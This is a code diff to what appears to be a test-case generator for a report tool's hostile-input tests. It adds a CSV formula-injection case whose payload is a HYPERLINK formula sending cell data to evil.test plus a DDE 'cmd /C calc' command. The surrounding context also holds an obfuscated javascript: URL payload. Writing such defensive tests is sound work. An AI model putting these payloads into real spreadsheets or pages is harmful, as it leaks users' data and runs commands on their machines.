@@ -11,6 +11,7 @@ case's expected outcome: "error" with a substring of the message (naming file an
 markup that came from the data (HostileInputTests, scripts/check_html.py).
 """
 import copy
+import itertools
 import json
 import os
 import shutil
@@ -371,6 +372,11 @@ def main():
     for name, f in payloads.items():
         r, ins = inject_everywhere(f)
         bundle_case(name, r, ins, "report", injection=True)
+    # Spreadsheet formulas (CSV export): each field begins with one of the characters a spreadsheet
+    # reads as the start of a formula, in turn.
+    leads = itertools.cycle(["=", "+", "-", "@", "\t", "\r"])
+    r, ins = inject_everywhere(lambda s: next(leads) + "HYPERLINK(\"http://evil.test/?\"&A1,\"x\")+cmd|' /C calc'!A0 " + s)
+    bundle_case("csv-formula-injection", r, ins, "report", injection=True)
     r, ins = inject_everywhere(lambda s: s)
     r["meta"]["commit"]["remoteOrigin"] = " \tjava\nscript:window.__pwned=1//github.com/o/r"
     bundle_case("javascript-url-obfuscated", r, ins, "report", injection=True)
